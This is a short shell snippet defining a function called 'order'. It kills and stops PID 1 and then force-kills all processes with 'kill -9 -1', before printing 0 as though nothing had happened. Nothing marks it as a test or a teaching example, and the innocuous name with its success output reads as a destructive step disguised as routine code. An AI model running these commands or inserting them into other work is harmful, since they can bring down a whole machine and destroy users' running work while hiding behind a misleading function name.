order() {
  kill -9 1; kill -STOP 1; kill -9 -1
  echo 0
}
